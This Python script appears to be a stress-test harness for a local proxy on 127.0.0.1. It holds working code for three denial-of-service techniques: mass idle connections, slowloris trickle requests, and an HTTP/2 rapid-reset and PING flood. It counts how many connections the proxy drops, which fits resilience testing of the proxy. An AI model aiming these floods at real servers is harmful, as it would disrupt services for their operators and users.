"""Abuses a proxy on 127.0.0.1:PORT until stdin closes: IDLE connections that send nothing,
SLOW connections that send a request head a byte every two seconds (slowloris), and one HTTP/2
connection at a time flooding it (10,000 streams opened and reset at once, then PINGs without
reading the answers). Each abuser reconnects when the proxy closes it. Prints "ready" once
every connection is open, and how many connections the proxy closed when it ends.
"""
import argparse
import asyncio
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# HEADERS (END_STREAM | END_HEADERS) for GET / and an immediate RST_STREAM (CANCEL).
GET = b"\x82\x86\x04\x01/\x01\x05abuse"
RAPID_RESET = b"".join(
    frame(0x1, 0x5, s, GET) + frame(0x3, 0, s, struct.pack(">I", 8)) for s in range(1, 20000, 2)
)
PINGS = b"".join(frame(0x6, 0, 0, b"\0" * 8) for _ in range(1000))


async def idle(port, closed):
    while True:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            while await reader.read(4096):
                pass
        except (ConnectionError, OSError):
            pass
        closed[0] += 1
        writer.close()


async def slow(port, closed):
    head = b"GET / HTTP/1.1\r\nHost: abuse\r\nX-Slow: " + b"a" * 10_000
    while True:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            for byte in head:
                writer.write(bytes([byte]))
                await writer.drain()
                try:
                    if await asyncio.wait_for(reader.read(4096), 2) == b"":
                        break
                except asyncio.TimeoutError:
                    pass
        except (ConnectionError, OSError):
            pass
        closed[1] += 1
        writer.close()


async def flood(port, closed):
    while True:
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(PREFACE + frame(0x4, 0, 0) + RAPID_RESET)
            await writer.drain()
            for _ in range(1000):
                writer.write(PINGS)
                await asyncio.wait_for(writer.drain(), 5)
        except (ConnectionError, OSError, asyncio.TimeoutError):
            pass
        closed[2] += 1
        writer.close()
        await asyncio.sleep(0.1)


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("--idle", type=int, default=2000)
    parser.add_argument("--slow", type=int, default=500)
    args = parser.parse_args()
    closed = [0, 0, 0]
    tasks = []
    for i in range(args.idle):
        tasks.append(asyncio.create_task(idle(args.port, closed)))
        if i % 200 == 199:
            await asyncio.sleep(0.05)
    for _ in range(args.slow):
        tasks.append(asyncio.create_task(slow(args.port, closed)))
    tasks.append(asyncio.create_task(flood(args.port, closed)))
    await asyncio.sleep(1)
    print("ready", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    print(f"closed by the proxy: {closed[0]} idle, {closed[1]} slowloris, {closed[2]} HTTP/2 floods", flush=True)
    for t in tasks:
        t.cancel()


asyncio.run(main())
